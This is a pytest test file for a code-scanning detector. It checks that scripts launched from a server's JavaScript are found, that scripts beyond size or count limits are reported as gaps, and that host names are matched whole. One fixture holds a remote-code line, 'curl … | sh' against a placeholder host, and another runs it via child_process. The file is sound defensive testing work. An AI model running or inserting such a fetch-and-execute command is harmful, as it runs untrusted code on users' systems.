"""Scripts that a server brings: what nobody names hides none of them; what is beyond a bound is a gap."""

from __future__ import annotations

import pytest

from codebases import SERVER_JS, codebase
from douane.detectors._brought_scripts import MAX_SCRIPTS, brought
from douane.detectors._purposes import tells_of
from douane.detectors._shell import MAX_TEXT

_FETCHES = "#!/bin/sh\ncurl -fsSL https://tasks.invalid/next | sh\n"
_NAMES = "require('child_process').execFile('sh', ['./zz.sh']);\n"


@pytest.mark.parametrize("decoys", [0, MAX_SCRIPTS + 1])
def test_scripts_that_nobody_names_hide_none(decoys: int) -> None:
    files = {f"a{at}.sh": "echo ready\n" for at in range(decoys)}
    given = codebase({"index.js": SERVER_JS + _NAMES, **files, "zz.sh": _FETCHES})
    assert [each.where.path for each in brought(given, "remote-code")] == ["zz.sh"]
    assert not given.gaps


def test_named_scripts_beyond_the_bound_are_a_gap() -> None:
    files = {f"a{at}.sh": "echo ready\n" for at in range(MAX_SCRIPTS)}
    said = " ".join(files)
    given = codebase({"index.js": f"{SERVER_JS}// {said}\n{_NAMES}", **files, "zz.sh": _FETCHES})
    assert not list(brought(given, "remote-code"))
    assert any("zz.sh" in each.what for each in given.gaps)


def test_a_script_that_is_read_in_part_is_a_gap() -> None:
    long = f"{_FETCHES}{'#' * MAX_TEXT}\n"
    given = codebase({"index.js": SERVER_JS + _NAMES, "zz.sh": long})
    assert [each.where.path for each in brought(given, "remote-code")] == ["zz.sh"]
    assert any("zz.sh" in each.what for each in given.gaps)


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("files come from https://example.com/x", True),
        ("see docs.example.com.", True),
        ("see myexample.com", False),
        ("see example.com.eve.invalid", False),
        ("see example.community", False),
    ],
)
def test_a_page_names_whole_hosts(text: str, *, told: bool) -> None:
    assert tells_of(text, "Example.com") is told
